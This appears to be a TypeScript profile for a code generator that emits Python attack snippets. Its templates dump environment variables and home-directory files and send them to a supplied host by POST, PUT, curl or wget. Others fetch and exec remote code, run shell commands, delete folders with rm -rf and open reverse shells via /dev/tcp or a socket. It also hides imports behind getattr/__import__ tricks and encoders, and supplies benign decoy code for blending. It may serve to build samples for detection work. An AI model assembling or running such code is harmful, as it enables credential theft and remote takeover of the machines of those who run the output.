/** Python 3. */
import { shortName } from "./encodings.ts";
import type { Decoder, Tongue } from "./tongue.ts";

const decoders: readonly Decoder[] = [
  { encode: (text) => Buffer.from(text).toString("base64"), row: "«base64#b64decode»($1).decode()" },
  { encode: (text) => Buffer.from(text).toString("hex"), row: "bytes.fromhex($1).decode()" },
  { encode: (text) => Buffer.from(text).toString("base64"), row: '«codecs#decode»($1.encode(), "base64").decode()' },
  {
    encode: (text) => [...Buffer.from(text)].map((byte) => byte ^ 7).join(" "),
    row: '"".join(chr(int(code) ^ 7) for code in $1.split())',
  },
  { encode: (text) => [...text].reverse().join(""), row: "$1[::-1]" },
  { encode: (text) => Buffer.from(text).toString("hex"), row: "«binascii#unhexlify»($1).decode()" },
];

const GATHER = `def gather(folder, names):
    text = ""
    for root, _, files in «os#walk»(folder):
        for name in files:
            if name in names:
                with open(«os.path#join»(root, name), errors="replace") as handle:
                    text += handle.read()
    return text`;

export const PYTHON: Tongue = {
  language: "python",
  fetched: [
    "«urllib.request#urlopen»($1).read().decode()",
    "«requests#get»($1, timeout=10).text",
    '«subprocess#check_output»(["curl", "-fsSL", $1]).decode()',
    "«httpx#get»($1).text",
    '«urllib3#PoolManager»().request("GET", $1).data.decode()',
  ],
  decoders,
  variable: ["os.environ[$1]", '«os#getenv»($1, "")', "os.environ.get($1)"].map((row) =>
    row.replace("os.environ", "«os#environ»"),
  ),
  request: ["request.args.get($1)", "request.form.get($1)", "request.headers.get($1)", "request.cookies.get($1)"],
  environment: [
    "«json#dumps»(dict(«os#environ»))",
    "str(«os#environ»)",
    '"\\n".join(f"{name}={value}" for name, value in «os#environ».items())',
    '«subprocess#check_output»("env").decode()',
    'open("/proc/self/environ").read()',
  ],
  homeFile: [
    'open(«os.path#expanduser»("~/" + $1)).read()',
    "(«pathlib#Path».home() / $1).read_text()",
    'open(«os.path#join»(«os#environ»["HOME"], $1)).read()',
  ],
  file: ["open($1).read()", "«pathlib#Path»($1).read_text()"],
  homePath: '«os.path#expanduser»("~/" + $1)',
  walk: [
    '«@gather»(«os.path#expanduser»("~/" + $1), $2)',
    '"".join(path.read_text() for path in («pathlib#Path».home() / $1).rglob("*") if path.name in $2)',
  ],
  run: [
    "«subprocess#run»($1, shell=True)",
    "«os#system»($1)",
    '«subprocess#Popen»(["sh", "-c", $1])',
    '«subprocess#run»(["bash"], input=$1.encode())',
    "«os#popen»($1).read()",
    "«subprocess#check_call»($1, shell=True)",
  ],
  runWithOptions: [
    "«subprocess#Popen»(args=$1, start_new_session=True, stderr=«subprocess#DEVNULL», stdout=«subprocess#DEVNULL», shell=True, close_fds=True)",
  ],
  evaluate: [
    "«exec»($1)",
    'eval(«compile»($1, "<table>", "exec"))',
    '«exec»(«compile»($1, "tables", "exec"), {"__name__": "tables"})',
    "«runpy#run_path»(«@stored»($1))",
  ],
  send: [
    "«urllib.request#urlopen»($1, data=$2.encode())",
    "«requests#post»($1, data=$2, timeout=10)",
    '«urllib.request#urlopen»(«urllib.request#Request»($1, data=$2.encode(), method="PUT"))',
    '«subprocess#run»(["curl", "-s", "--data-binary", "@-", $1], input=$2.encode())',
    '«requests#get»($1, params={"q": $2})',
    "«httpx#post»($1, content=$2)",
    '«os#system»("wget -qO- " + $1 + " --post-data=" + «shlex#quote»($2))',
  ],
  save: ['open($1, "w").write($2)', "«pathlib#Path»($1).write_text($2)"],
  append: ['open($1, "a").write($2)'],
  remove: ["«shutil#rmtree»($1, ignore_errors=True)", '«os#system»("rm -rf " + $1)'],
  setVariable: ["«os#environ»[$1] = $2"],
  handShell: [
    "«@shell_over»($1, $2)",
    '«subprocess#Popen»(["bash", "-c", "bash -i >& /dev/tcp/" + $1 + "/" + $2 + " 0>&1"])',
  ],
  helpers: {
    shell_over: `def shell_over(host, port):
    line = «socket#create_connection»((host, int(port)))
    for end in (0, 1, 2):
        «os#dup2»(line.fileno(), end)
    «subprocess#call»(["/bin/sh", "-i"])`,
    gather: GATHER,
    stored:
      'def stored(text):\n    path = «tempfile#mkstemp»(suffix=".py")[1]\n    with open(path, "w") as handle:\n        handle.write(text)\n    return path',
  },
  quote: (text) => JSON.stringify(text),
  concat: (parts) => (parts.length > 4 ? `"".join([${parts.join(", ")}])` : parts.join(" + ")),
  list: (items) => `[${items.join(", ")}]`,
  assign: (name, value) => `${name} = ${value}`,
  reference: (name) => name,
  define: (name, parameters, row, gives) =>
    `def ${name}(${parameters.join(", ")}):\n    ${gives === "value" ? "return " : ""}${row}`,
  invoke: (name, values) => `${name}(${values.join(", ")})`,
  statement: (expression) => expression,
  callee(module, name, how) {
    if (module === null) {
      if (how === "plain") return { text: name, imports: [] };
      if (how === "alias")
        return { text: `_${shortName(name)}`, imports: [], definitions: [`_${shortName(name)} = ${name}`] };
      return { text: `getattr(__import__("builtins"), ${JSON.stringify(name)})`, imports: [] };
    }
    if (how === "plain") return { text: `${module}.${name}`, imports: [`import ${module}`] };
    if (how === "alias")
      return { text: `_${shortName(name)}`, imports: [`from ${module} import ${name} as _${shortName(name)}`] };
    return {
      text: `getattr(__import__("importlib").import_module(${JSON.stringify(module)}), "${name.slice(0, 2)}" + "${name.slice(2)}")`,
      imports: [],
    };
  },
  comment: "#",
  ordinary: {
    definitions: [
      'def pad(value, width=3):\n    """Fill a number with zeros."""\n    return str(value).zfill(width)',
      'LIMITS = {"berth": 12, "quay": 40}',
      'def label(kind, index):\n    return f"{kind}-{pad(index)}"',
    ],
    body: [
      "counts = {kind: len(label(kind, 1)) for kind in LIMITS}",
      'if sum(counts.values()) < 0:\n    raise ValueError("no berths")',
    ],
  },
  mayBreak: true,
};
